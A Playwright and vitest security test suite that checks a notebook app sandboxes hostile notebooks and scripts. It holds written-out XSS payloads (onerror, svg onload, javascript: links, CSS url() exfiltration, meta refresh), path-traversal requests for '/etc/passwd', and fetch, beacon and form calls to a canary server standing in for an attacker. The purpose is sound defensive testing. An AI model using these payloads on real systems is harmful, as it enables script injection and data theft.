import { execFileSync } from "node:child_process";
import { mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { pathToFileURL } from "node:url";
import type { Browser, BrowserContext, Frame, Page } from "playwright-core";
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from "vitest";
import { command, launch, openDesk, serve, textOf, typeAfter } from "./deskOpen.ts";
import type { Served } from "./deskOpen.ts";
import { canary, hostileFiles, hostileText } from "./hostile.ts";

// A stranger's notebook, opened: it reaches no network, no file outside its folder and no page but its own, and freezes nothing.

type Canary = Awaited<ReturnType<typeof canary>>;
let browser: Browser, away: Canary, context: BrowserContext, top = "", folder = "", asked: string[] = [];
beforeAll(async () => { browser = await launch(); });
afterAll(async () => { await browser.close(); });
beforeEach(async () => {
  away = await canary();
  top = mkdtempSync(join(tmpdir(), "lagbook-hostile-"));
  folder = join(top, "home");
  mkdirSync(folder);
  writeFileSync(join(top, "outside.csv"), "t,v\n1,31415\n2,31415\n");
  symlinkSync(join(top, "outside.csv"), join(folder, "linked.csv"));
  context = await browser.newContext({ viewport: { width: 1280, height: 800 } });
  asked = [];
  context.on("request", (request) => { asked.push(request.url()); });
});
afterEach(async () => { await context.close(); away.close(); rmSync(top, { recursive: true, force: true }); });

/** Addresses asked for that are neither the desk's own nor inside the page. */
const strange = (own: string): readonly string[] => asked.filter((url) => !url.startsWith(own) && !/^(?:blob|data|about):/.test(url));

/** What of the notebook became part of a document, and not its text. */
const planted = (where: Page | Frame): Promise<readonly string[]> => where.evaluate(() => {
  const all = [...document.querySelectorAll("*")];
  const elements = all.filter((each) => each.matches("iframe, object, embed, form:not(:empty), link, base, video, audio, foreignObject, image, use:not([href^='#'], :not([href])), animate, marquee, maction, portal") && !(each.id === "frame" || each.parentElement?.id === "live-place" || each.matches("head > link")));
  const attributes = all.flatMap((each) => [...each.attributes].filter(({ name, value }) => /^on/i.test(name) || (/^(?:xlink:)?(?:href|src|action|formaction)$/i.test(name) && !/^(?:https?:|mailto:|#|\/desk|data:(?:image|,)|blob:|about:)/i.test(value) && each.id !== "frame") || (name === "style" && /url\(/i.test(value))).map(({ name, value }) => `${each.localName} ${name}="${value.slice(0, 80)}"`));
  const scripts = all.filter((each) => each.localName === "script" && /owned/.test(each.textContent ?? "") && (each as HTMLScriptElement).type !== "application/json");
  return ["owned" in window ? "code ran" : "", ...elements.map((each) => each.outerHTML.slice(0, 80)), ...attributes, ...scripts.map(() => "a script")].filter((each) => each !== "");
});

describe("a stranger's notebook in the desk", { timeout: 120_000 }, () => {
  let served: Served, page: Page, frame: Frame;
  beforeEach(async () => {
    served = await serve(hostileText(away.url), hostileFiles(away.url), 0, folder);
    ({ page, frame } = await openDesk(context, served.url));
  });
  afterEach(async () => { await served.stop(); });

  it("is text wherever it stands: nothing of it runs, loads or leads away", async () => {
    for (const cell of await frame.locator(".cell").all()) await cell.scrollIntoViewIfNeeded();
    await page.waitForTimeout(500);
    expect(await planted(frame)).toEqual([]);
    expect(await planted(page)).toEqual([]);
    expect(strange(new URL(served.url).origin)).toEqual([]);
    expect(away.met).toEqual([]);
    expect(context.pages().length).toBe(1);
    expect(page.url()).toBe(served.url);
  });

  it("reads no file outside its folder, and is told why", async () => {
    for (const [cell, words] of [["outside", /inside its own folder/], ["linked", /leads out of the notebook's folder by a link/], ["passwords", /absolute path/], ["network", /address on a network/]] as const) {
      expect(await frame.locator(`#cell-${cell}`).getAttribute("data-state")).toBe("failed");
      expect(await frame.locator(`#cell-${cell} .cell-fault`).innerText()).toMatch(words);
    }
    expect(await frame.locator("body").innerText()).not.toContain("31415");
    for (const sound of ["sold", "plain", "q", "pick", "named", "rows", "model", "ahead"]) expect(await frame.locator(`#cell-${sound}`).getAttribute("data-state"), sound).toBe("current");
  });

  it("would reach nothing even if it ran in the page's frame", async () => {
    const server = new URL(served.url).origin;
    const reached = await frame.evaluate(async ([far, desk]) => {
      const found: Record<string, string> = {}, soon = <T>(work: Promise<T>): Promise<T | string> => Promise.race([work, new Promise<string>((done) => { setTimeout(() => done("no answer"), 700); })]);
      const attempt = async (name: string, work: () => unknown): Promise<void> => { try { const got = await soon(Promise.resolve(work())); if (got !== "no answer") found[name] = String(got).slice(0, 60); } catch { /* refused, as it should be */ } };
      const event = (target: EventTarget, good: string): Promise<string> => new Promise((done, failed) => { target.addEventListener(good, () => done(good)); target.addEventListener("error", () => failed(new Error("refused"))); });
      const element = (tag: string, attributes: Record<string, string>): Promise<string> => { const made = Object.assign(document.createElement(tag), attributes); const loaded = event(made, "load"); document.body.append(made); return loaded; };
      await Promise.all([
        attempt("fetch", () => fetch(`${far}/fetch`, { mode: "no-cors" })), attempt("desk's notebook", () => fetch(`${desk}/notebook`)), attempt("desk's data", () => fetch(`${desk}/data?file=plain.csv`)), attempt("desk's script", () => fetch(`${desk}/desk.js`, { mode: "no-cors" })),
        attempt("old request", () => new Promise((done, failed) => { const request = new XMLHttpRequest(); request.addEventListener("load", done); request.addEventListener("error", failed); request.open("GET", `${far}/xhr`); request.send(); })),
        attempt("socket", () => event(new WebSocket(far.replace("http", "ws")), "open")), attempt("events", () => event(new EventSource(`${far}/events`), "open")),
        attempt("beacon", () => (navigator.sendBeacon(`${far}/beacon`, "x") ? new Promise((done) => { setTimeout(done, 2000); }) : Promise.reject(new Error("refused")))),
        attempt("picture", () => element("img", { src: `${far}/a.png` })), attempt("sheet", () => element("link", { rel: "stylesheet", href: `${far}/a.css` })), attempt("prefetch", () => element("link", { rel: "prefetch", href: `${far}/prefetch` })),
        attempt("script", () => element("script", { src: `${far}/a.js` })), attempt("inline script", () => { document.body.append(Object.assign(document.createElement("script"), { textContent: "window.inline = 1" })); return "inline" in window ? "ran" : Promise.reject(new Error("refused")); }),
        attempt("module", () => import(/* @vite-ignore */ `${far}/module.js`)), attempt("worker", () => event(new Worker(`${far}/worker.js`), "message")), attempt("code from text", () => { setTimeout("window.evaled = 1"); return new Promise((done, failed) => { setTimeout(() => { if ("evaled" in window) done("ran"); else failed(new Error("refused")); }, 100); }); }),
        attempt("storage", () => localStorage.length), attempt("session", () => sessionStorage.length), attempt("cookie", () => document.cookie), attempt("database", () => new Promise((done, failed) => { const request = indexedDB.open("x"); request.addEventListener("success", () => done("opened")); request.addEventListener("error", failed); })),
        attempt("caches", () => caches.keys()), attempt("service worker", () => navigator.serviceWorker.getRegistrations()),
        attempt("parent's document", () => parent.document.title), attempt("parent's storage", () => parent.localStorage.length), attempt("parent's address", () => parent.location.href), attempt("top", () => { window.top!.location.href = `${far}/top`; return "no answer"; }),
        attempt("window", () => window.open(`${far}/open`) ?? Promise.reject(new Error("refused"))),
        attempt("form", () => { const form = Object.assign(document.createElement("form"), { action: `${far}/form`, method: "post" }); document.body.append(form); form.submit(); return "no answer"; }),
        attempt("frame", () => { document.body.append(Object.assign(document.createElement("iframe"), { src: `${far}/frame` })); return "no answer"; }),
      ]);
      return found;
    }, [away.url, server] as const);
    // A frame's own load event also comes when its address was refused: the canary knows better.
    expect(reached).toEqual({});
    expect(context.pages().length).toBe(1);
    expect(page.url()).toBe(served.url);
    await frame.evaluate((far) => { location.href = `${far}/self`; }, away.url).catch(() => undefined);
    await page.waitForTimeout(500);
    expect(away.met).toEqual([]);
  });

  it("cannot talk the desk into anything by forged messages, and a flood of them leaves it usable", async () => {
    const files = frame.evaluate(() => new Promise<unknown[]>((done) => {
      const heard: unknown[] = [];
      addEventListener("message", ({ data }) => { if (data.to === "file") { heard.push(data.bytes === null ? data.reason : "bytes"); if (heard.length === 3) done(heard); } });
      for (const file of ["../outside.csv", "linked.csv", "/etc/passwd"]) parent.postMessage({ page: "needFile", file }, "*");
    }));
    for (const reason of await files) expect(reason).toMatch(/inside its own folder|leads out/);
    await frame.evaluate((far) => {
      // The browser counts an evaluation as the reader's hand for five seconds.
      for (const href of [`javascript:fetch('${far}')`, `${far}/link`, "file:///etc/passwd"]) setTimeout(() => { parent.postMessage({ page: "openLink", href }, "*"); }, 6000);
      const forged = [{ page: "keep", name: "constructor", value: { toString: 1 } }, { page: "keep", name: "q", value: `1\n\`\`\`\n\n\`\`\`script: x\n` }, { page: "accept", version: 1, numbers: [{ index: 0, now: "](javascript:x)" }, { index: 99, now: "1" }] },
        { page: "goToSource", from: -5, to: 1e9, focus: true }, { page: "states" }, { page: "outline" }, { page: "accept", version: 1, numbers: null }, { page: "key", key: {} }, { page: "saveFile", name: "../../x", type: "text/html", bytes: "no bytes" }, { page: "__proto__" }, { page: null }];
      for (const message of forged) parent.postMessage(message, "*");
      for (let i = 0; i < 20_000; i++) parent.postMessage({ page: "scrolled", position: i }, "*");
    }, away.url);
    await page.waitForTimeout(7000);
    expect(context.pages().length, "a window was opened without the reader's hand").toBe(1);
    expect(away.met).toEqual([]);
    const text = await textOf(page);
    expect(text).not.toMatch(/script: x|\]\(javascript:x\)/);
    await page.locator(".cm-content").click();
    await page.keyboard.press("Control+Home");
    await page.keyboard.type("Still here. ");
    await expect.poll(() => textOf(page)).toContain("Still here. # Harm");
  });
});

describe("a stranger's script in the desk", { timeout: 120_000 }, () => {
  const cells = (script: string): string => `# Script\n\n\`\`\`script: s\n${script}\n\`\`\`\n\n\`\`\`values: v\nx: [1, 2].map(x => x + 1)\n\`\`\`\n\nBeside it [2](<=v.x[0]>) stands.\n\nThe last line.\n`;
  /** Opens the desk without waiting for the script, and counts the longest time between two frames of the desk. */
  async function open(script: string): Promise<{ readonly page: Page; readonly frame: Frame; readonly served: Served }> {
    const served = await serve(cells(script), {}, 0), page = await context.newPage();
    await page.goto(served.url);
    await page.waitForSelector(".cm-content");
    const frame = (await (await page.waitForSelector("#frame")).contentFrame())!;
    await frame.waitForSelector("#cell-v[data-state=current]");
    return { page, frame, served };
  }
  const state = (frame: Frame, cell: string): Promise<string | null> => frame.locator(`#cell-${cell}`).getAttribute("data-state");

  it("finds the language and nothing that leads out; what it breaks is its own", async () => {
    const { frame, served } = await open(`
const names = ["fetch", "XMLHttpRequest", "WebSocket", "EventSource", "WebTransport", "importScripts", "Worker", "postMessage", "close", "addEventListener", "onmessage", "self", "location", "navigator", "indexedDB", "caches", "BroadcastChannel", "MessageChannel", "Blob", "URL", "SharedArrayBuffer", "Atomics", "WebAssembly", "crypto", "scheduler", "performance", "reportError"];
const found = names.filter((name) => { let top = globalThis; while (top !== null) { if (Reflect.get(top, name) !== undefined) return true; top = Object.getPrototypeOf(top); } return false; });
const made = [function () {}, async () => {}, function* () {}, async function* () {}].filter((each) => { try { return each.constructor("return 1") !== undefined; } catch { return false; } });
await new Promise((done) => { setTimeout("globalThis.evaled = 1", 0); setTimeout(done, 50); });
Object.prototype.polluted = 1; Array.prototype.map = null; Promise.prototype.then = null;
export const result = found.join() + made.length + ("evaled" in globalThis);`);
    await expect.poll(() => state(frame, "s"), { timeout: 20_000 }).toBe("current");
    expect(await frame.locator("#cell-s").innerText()).toMatch(/result\s+0false/);
    expect(await state(frame, "v")).toBe("current");
    expect(await frame.evaluate(() => "polluted" in Object.prototype)).toBe(false);
    expect(away.met).toEqual([]);
    await served.stop();
  });

  it("is refused every way to import, before it runs", async () => {
    const lines = [`import x from "${away.url}/m.js";`, `export * from "${away.url}/m.js";`, `const m = await import("${away.url}/m.js"); export const a = 1;`, "export const b = import.meta.url;"];
    const { frame, served } = await open(lines.join("\n```\n\n```script:\n"));
    const scripts = frame.locator("[data-kind=script]");
    await expect.poll(() => scripts.evaluateAll((all) => all.map((each) => (each as HTMLElement).dataset.state))).toEqual(lines.map(() => "failed"));
    for (const fault of await scripts.locator(".cell-fault").allInnerTexts()) expect(fault).toMatch(/cannot import|not available in a script/);
    await served.stop();
    expect(away.met).toEqual([]);
  });

  it("may loop or storm without end: the desk is written in, the rest of the page lives, and the reader can stop it", async () => {
    for (const endless of ["while (true) {}", "const go = () => { for (let i = 0; i < 1000; i++) setTimeout(go, 0); }; go(); export const a = await new Promise(() => {});"]) {
      const { page, frame, served } = await open(endless);
      await page.evaluate(() => { let last = performance.now(); const one = window as unknown as { longest: number }; one.longest = 0; const beat = (): void => { const now = performance.now(); one.longest = Math.max(one.longest, now - last); last = now; requestAnimationFrame(beat); }; beat(); });
      await typeAfter(page, "The last line.", " Written meanwhile.");
      await expect.poll(() => frame.locator("body").innerText()).toContain("Written meanwhile.");
      await frame.locator("#cell-s [data-act=stop]").click({ timeout: 15_000 });
      await expect.poll(() => frame.locator("#cell-s .cell-fault").innerText()).toContain("Stopped by hand");
      await expect.poll(() => state(frame, "v")).toBe("current");
      // A desk that waited for the script would have stood still until it was stopped; drawing takes its time on a busy machine.
      expect(await page.evaluate(() => (window as unknown as { longest: number }).longest)).toBeLessThan(2000);
      await page.keyboard.press("Control+s");
      await expect.poll(() => page.locator("#said").innerText()).toMatch(/^Saved /);
      await page.close();
      await served.stop();
    }
  });
});

describe("a stranger's notebook as an exported page", { timeout: 120_000 }, () => {
  let file = "";
  beforeEach(() => {
    writeFileSync(join(folder, "n.md"), hostileText(away.url));
    for (const [name, content] of Object.entries(hostileFiles(away.url))) writeFileSync(join(folder, name), content);
    try { execFileSync(process.execPath, [command, "page", "n.md"], { cwd: folder, stdio: "pipe" }); } catch (error) { expect((error as { status: number }).status).toBe(1); }
    file = pathToFileURL(join(folder, "n.html")).href;
  });

  it("is text without JavaScript", async () => {
    const still = await browser.newContext({ javaScriptEnabled: false }), page = await still.newPage();
    still.on("request", (request) => { asked.push(request.url()); });
    await page.goto(file);
    expect(await page.locator("#still h1").innerText()).toContain("Harm <img");
    await page.waitForTimeout(300);
    expect(strange(file)).toEqual([]);
    expect(away.met).toEqual([]);
    await still.close();
  });

  it("opens from disk, comes alive, and is text there too, in the shell as in the page", async () => {
    const page = await context.newPage();
    await page.goto(file);
    await page.waitForSelector("html.live", { timeout: 60_000 });
    const frame = (await (await page.waitForSelector("#live-place iframe")).contentFrame())!;
    // A moved control has the still page replaced by one that came from the frame.
    await frame.locator("#strip-q").focus();
    await page.keyboard.press("ArrowRight");
    await expect.poll(() => page.evaluate(() => document.querySelector("#still")?.textContent?.includes("ma 2") || document.querySelector("#still #cell-q")?.textContent?.includes("2"))).toBe(true);
    expect(await planted(page)).toEqual([]);
    expect(await planted(frame)).toEqual([]);
    expect(strange(file)).toEqual([]);
    await frame.evaluate((far) => { location.href = `${far}/self`; }, away.url).catch(() => undefined);
    await page.waitForTimeout(500);
    expect(page.url()).toBe(file);
    expect(context.pages().length).toBe(1);
    expect(away.met).toEqual([]);
  });

  it("shows nothing harmful of what its frame hands over for printing, whoever wrote it", async () => {
    const page = await context.newPage();
    await page.goto(file);
    await page.waitForSelector("html.live", { timeout: 60_000 });
    const frame = (await (await page.waitForSelector("#live-place iframe")).contentFrame())!;
    await frame.evaluate((far) => {
      const html = `<p id="forged">x</p><script>window.owned=1</script><img src="${far}/p.png" onerror="window.owned=1"><img src=x onerror="window.owned=1"><svg onload="window.owned=1"><use href="${far}/u.svg#a"/><image href="${far}/i.png"/><a href="javascript:window.owned=1"><text>t</text></a><foreignObject><iframe src="${far}/f"></iframe></foreignObject></svg><iframe srcdoc="<script>parent.owned=1</script>"></iframe><p style="background:url(${far}/b.png)">s</p><p style="background:\\75rl(${far}/e.png)">e</p><style>@import "${far}/i.css"</style><math><mtext><img src=y onerror="window.owned=1"></mtext></math><a href="javascript:window.owned=1">j</a><base href="${far}/"><meta http-equiv="refresh" content="0;url=${far}/m"><form action="${far}/form"></form>`;
      parent.postMessage({ page: "still", html }, "*");
    }, away.url);
    await page.waitForSelector("#forged", { state: "attached" });
    await page.waitForTimeout(300);
    expect(await planted(page)).toEqual([]);
    expect(away.met).toEqual([]);
  });
});
